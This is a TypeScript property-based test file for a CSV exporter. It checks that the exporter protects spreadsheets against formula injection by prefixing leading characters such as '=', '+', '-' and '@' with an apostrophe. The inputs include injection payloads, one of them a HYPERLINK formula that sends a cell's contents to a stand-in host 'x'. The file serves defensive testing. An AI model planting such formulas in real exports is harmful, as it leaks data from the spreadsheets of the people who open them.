import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csv } from '../../src/export/csv.ts';
import { createNdjson } from '../../src/export/ndjson.ts';
import { toCsvRows, toUnprotected } from '../support/csv.ts';

const nasty = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc.string({
    unit: fc.constantFrom(
      '"',
      ',',
      '\r',
      '\n',
      '\t',
      "'",
      '=',
      '+',
      '-',
      '@',
      ' ',
      '＝',
      '😀',
      '\ud83d',
      '\ufeff',
      ';',
      'a',
      '\0',
    ),
  }),
);
const cell = fc.oneof(
  nasty,
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.integer(),
  fc.boolean(),
  fc.constant(null),
);

/** What is left of text that no encoding can hold. */
const toWhole = (text: string) => Buffer.from(text).toString();

describe('a row', () => {
  it('comes back from CSV as it does from NDJSON, but for the apostrophe', () => {
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 3, maxLength: 3 })), (rows) => {
        const names = ['a', 'b', 'c'];
        const ndjson = createNdjson(names);
        const csvRows = toCsvRows(toWhole(csv.head(names) + rows.map((cells) => csv.row(cells)).join('')));
        const lines = toWhole(rows.map((cells) => ndjson.row(cells)).join(''))
          .split('\n')
          .slice(0, -1);
        expect(csvRows.shift()).toEqual(names);
        expect(csvRows).toHaveLength(lines.length);
        for (const [index, line] of lines.entries()) {
          const raw = Object.values(JSON.parse(line) as Record<string, string | number | boolean | null>);
          const expected = raw.map((value) => (value === null ? undefined : toWhole(String(value))));
          const read = csvRows[index]?.map((text, at) => (typeof raw[at] === 'string' ? toUnprotected(text) : text));
          expect(read).toEqual(expected);
        }
      }),
    );
  });

  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '\tx',
    '  =1',
    '\u00a0=1',
    '\u200b=1',
    '\ufeff=1',
    '＝1',
    '＋1',
    '－1',
    '＠x',
    ' ＝1',
    '\u3000=1',
    '−1',
    "'=1",
    "'",
  ])('protects a spreadsheet from %j', (text) => {
    const [[cell = ''] = []] = toCsvRows(csv.row([text]));
    expect([cell.at(0), toUnprotected(cell)]).toEqual(["'", text]);
  });

  // Where the decimal sign is a comma, a semicolon parts cells, whatever is in quotes.
  it.each([
    ['Guest;=HYPERLINK("http://x/?"&A1)', 'Guest;\'=HYPERLINK("http://x/?"&A1)'],
    ['x; +1', "x;' +1"],
    ['a\n=1', "a\n'=1"],
    ['a\t@b', "a\t'@b"],
    ["a;'b", "a;''b"],
  ])('protects a spreadsheet that parts %j otherwise', (text, expected) => {
    const [[cell = ''] = []] = toCsvRows(csv.row([text]));
    expect([cell, toUnprotected(cell)]).toEqual([expected, text]);
  });

  it.each(['a=1', '1+1', 'x@y.example', '2026-06-15T10:00:00Z', '😀', 'O’Neil', '(555) 0100'])(
    'leaves %j alone',
    (text) => {
      expect(csv.row([text])).toBe(`${text}\r\n`);
    },
  );

  it('leaves numbers numbers', () => {
    expect(csv.row([-58, 0.5, true, null, ''])).toBe('-58,0.5,true,,""\r\n');
  });
});
